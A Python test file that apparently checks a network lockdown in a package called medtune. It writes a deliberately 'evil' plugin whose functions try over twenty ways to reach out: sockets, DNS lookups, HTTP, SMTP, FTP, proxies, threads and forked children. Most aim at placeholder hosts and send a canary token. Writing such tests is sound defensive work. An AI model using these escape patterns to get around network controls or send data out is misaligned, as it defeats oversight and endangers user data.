"""A locked process cannot be unlocked, so that these attempts are made by a process of their own, all of one."""

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

SOURCE = Path(__file__).parents[2] / "src"

PLUGIN = """
    import asyncio, http.client, ftplib, smtplib, socket, threading, urllib.request
    from concurrent.futures import ThreadPoolExecutor

    FAR = ("192.0.2.7", 443)  # of no machine: an address for documentation

    def by_urllib():
        urllib.request.urlopen("http://canary-4711.example/path?token=canary-4711")

    def by_urllib_at_a_number():
        urllib.request.urlopen("http://192.0.2.7/")

    def by_socket():
        socket.create_connection(FAR, timeout=1)

    def by_the_module_below():
        import _socket
        _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM, 0).connect(FAR)

    def by_connect_ex():
        socket.socket().connect_ex(FAR)

    def by_datagram():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary-4711", FAR)

    def by_ipv6():
        socket.socket(socket.AF_INET6).connect(("::1", 80))

    def by_raw_socket():
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)

    def by_netlink():
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)

    def by_look_up():
        socket.getaddrinfo("canary-4711.example", 80)

    def by_host_name():
        socket.gethostbyname("canary-4711.example")

    def by_address():
        socket.gethostbyaddr("192.0.2.7")

    def by_full_name():
        socket.getfqdn("canary-4711.example")

    def by_asyncio():
        asyncio.run(asyncio.wait_for(asyncio.open_connection("canary-4711.example", 80), 5))

    def by_asyncio_at_a_number():
        asyncio.run(asyncio.open_connection(*FAR))

    def by_http():
        http.client.HTTPConnection("192.0.2.7").request("GET", "/")

    def by_mail():
        smtplib.SMTP("canary-4711.example")

    def by_ftp():
        ftplib.FTP("canary-4711.example")

    def by_server():
        socket.create_server(("0.0.0.0", 0))

    def by_server_at_home():
        socket.create_server(("127.0.0.1", 0))

    def by_server_without_bind():
        socket.socket().listen()

    def by_proxy():
        urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:3128"})).open("http://a.example")

    def by_thread():
        with ThreadPoolExecutor(1) as pool:
            pool.submit(by_socket).result()
"""

CHILD = """
    import json, os, socket, subprocess, sys

    import medtune
    import evil_plugin
    from medtune.errors.locked_mode import is_locked
    from medtune.machine import network

    found = {"before": network.is_guarded()}
    network.lock()
    for name in [name for name in dir(evil_plugin) if name.startswith("by_")]:
        try:
            getattr(evil_plugin, name)()
            found[name] = ["open", "", ""]
        except BaseException as error:
            found[name] = [type(error).__name__, str(error), getattr(error, "distribution", "")]

    def outcome(act):
        try:
            act()
        except BaseException as error:
            return type(error).__name__
        return "open"

    network._guarded.clear()
    os.environ.pop("MEDTUNE_LOCKED")
    found["unlocked"] = outcome(evil_plugin.by_socket)
    found["still"] = [is_locked(), network._send((socket.socketpair()[0], None))]
    network.lock()
    found["own"] = outcome(lambda: socket.socketpair()[0].close())
    found["home"] = outcome(lambda: socket.getaddrinfo("127.0.0.1", 80))
    read, write = os.pipe()
    if os.fork() == 0:
        os.write(write, outcome(evil_plugin.by_socket).encode())
        os._exit(0)
    os.wait()
    found["fork"] = os.read(read, 100).decode()
    code = "import medtune, socket; socket.create_connection(('192.0.2.7', 443), 1)"
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stderr
    found["child"] = told.strip().splitlines()[-1]
    found["environment"] = {name: os.environ.get(name) for name in ("MEDTUNE_LOCKED", "HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE")}
    found["attempts"] = [[each.what, each.module, each.distribution, each.count] for each in network.attempts()]
    network.allow_server("127.0.0.1")
    found["serving"] = outcome(lambda: socket.create_server(("127.0.0.1", 0)).close())
    found["serving far"] = outcome(lambda: socket.create_server(("0.0.0.0", 0)).close())
    found["serving and asking"] = outcome(lambda: socket.create_connection(("127.0.0.1", 9)))
    network.allow_client("localhost", 9)
    found["asking"] = outcome(lambda: socket.create_connection(("127.0.0.1", 9)))
    found["asking another"] = outcome(lambda: socket.create_connection(("127.0.0.1", 10)))
    for name in ("allow_server", "allow_client"):
        found[name] = outcome(lambda: getattr(network, name)("192.0.2.7"))
    print(json.dumps(found))
"""


def run(folder: Path, code: str, **environment: str) -> dict:
    values = {"PATH": "/usr/bin:/bin", "PYTHONPATH": f"{SOURCE}:{folder}", **environment}
    command = [sys.executable, "-c", textwrap.dedent(code)]
    done = subprocess.run(command, env=values, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout) | {"stderr": done.stderr}


@pytest.fixture(scope="module")
def tried(tmp_path_factory):
    folder = tmp_path_factory.mktemp("site")
    (folder / "evil_plugin.py").write_text(textwrap.dedent(PLUGIN))
    facts = folder / "evil_distribution-1.0.dist-info"
    facts.mkdir()
    (facts / "METADATA").write_text("Metadata-Version: 2.1\nName: evil-distribution\nVersion: 1.0\n")
    (facts / "top_level.txt").write_text("evil_plugin\n")
    return run(folder, CHILD)


def test_every_way_out_is_refused_and_its_culprit_named_with_its_distribution(tried):
    ways = {name: told for name, told in tried.items() if name.startswith("by_")}
    assert len(ways) > 20
    assert {name: told for name, told in ways.items() if told[0] != "NetworkRefusedError"} == {}
    for name, (_kind, sentence, distribution) in ways.items():
        assert sentence.startswith("module 'evil_plugin' of distribution 'evil-distribution' (evil_plugin.py:"), name
        assert distribution == "evil-distribution"


def test_nothing_tells_what_would_have_been_sent_and_to_whom(tried):
    assert "canary-4711" not in json.dumps(tried)
    assert "192.0.2.7" not in json.dumps(tried)


def test_what_was_refused_is_counted_and_told_once_in_the_log_even_if_its_error_is_swallowed(tried):
    attempts = {
        what: count
        for what, module, of, count in tried["attempts"]
        if (module, of) == ("evil_plugin", "evil-distribution")
    }
    assert attempts["look up a name"] >= 8
    assert attempts["open a network socket"] >= 8
    assert len(tried["attempts"]) == len(attempts)


def test_it_cannot_be_unlocked_and_children_are_locked_too(tried):
    assert tried["before"] is False
    assert tried["unlocked"] == tried["fork"] == "NetworkRefusedError"
    assert tried["child"].startswith("medtune.errors.locked_mode.NetworkRefusedError")
    assert set(tried["environment"].values()) == {"1"}


def test_what_stays_on_this_machine_is_allowed_as_far_as_it_is_asked_for(tried):
    assert tried["own"] == tried["home"] == tried["serving"] == "open"
    assert tried["serving far"] == tried["serving and asking"] == tried["asking another"] == "NetworkRefusedError"
    assert tried["asking"] == "ConnectionRefusedError"  # by the machine: nobody listens there
    assert tried["allow_server"] == tried["allow_client"] == "RemoteNameError"


def test_the_rendezvous_of_a_launcher_is_allowed_and_nothing_beside_it(tmp_path):
    code = """
        import json, socket
        import medtune

        def outcome(port):
            try:
                socket.create_connection(("localhost", port), 1)
            except BaseException as error:
                return type(error).__name__

        print(json.dumps({"there": outcome(9), "beside": outcome(10)}))
    """
    found = run(tmp_path, code, MEDTUNE_LOCKED="1", MASTER_ADDR="localhost", MASTER_PORT="9")
    assert (found["there"], found["beside"]) == ("ConnectionRefusedError", "NetworkRefusedError")


def test_importing_medtune_unlocked_guards_nothing(tmp_path):
    code = "import json, medtune, sys; print(json.dumps({'loaded': 'medtune.machine.network' in sys.modules}))"
    assert run(tmp_path, code)["loaded"] is False
    assert run(tmp_path, code, MEDTUNE_LOCKED="0")["loaded"] is False
    assert run(tmp_path, code, MEDTUNE_LOCKED="1")["loaded"] is True


def test_a_process_stays_locked_whatever_becomes_of_its_environment_and_answers_where_it_was_asked(tried):
    assert tried["still"] == [True, ""]
